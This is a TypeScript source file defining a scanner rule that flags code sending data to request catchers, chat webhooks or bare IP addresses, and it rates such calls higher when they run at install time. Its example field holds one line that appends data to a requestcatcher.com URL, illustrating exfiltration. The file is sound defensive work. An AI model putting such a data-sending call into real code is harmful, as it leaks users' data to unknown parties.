import { isChatHook, isCollectionHost, isPublicAddress } from "../hosts.ts";
import type { Rule, Sighting } from "../rule.ts";
import type { LensView } from "../view.ts";
import { placeOf } from "../view.ts";
import type { Use } from "../../program/uses.ts";
import { hostOf } from "../../program/targets.ts";

export const postsToCollectors: Rule = {
  id: "posts-to-collectors",
  title: "Calls a service that collects what it is sent",
  why:
    "Request catchers, tunnels, chat hooks and bare addresses of machines take data without saying whose it is. " +
    "They are fine in an example; in code that others install they serve whoever does not want to be known.",
  example: 'https.get("https://abc.requestcatcher.com/" + data);',
  advice: "Find out what is sent, and who reads it.",
  severity: "high",
  confidence: "medium",
  look: (view) =>
    view.sends
      .filter((use) => use.spec?.target !== undefined)
      .flatMap((use) => sightingOf(use, view)),
};

function sightingOf(use: Use, view: LensView): readonly Sighting[] {
  for (const address of view.addressesOf(use)) {
    const host = hostOf(address);
    if (host === undefined) continue;
    const message =
      isCollectionHost(host) || isChatHook(address)
        ? `${host} is called.`
        : isPublicAddress(host)
          ? `The machine ${host} is called by its address, without a name.`
          : undefined;
    if (message === undefined) continue;
    const severity = view.isAtInstall(use.module) ? "high" : "medium";
    return [{ place: placeOf(use), message, severity }];
  }
  return [];
}
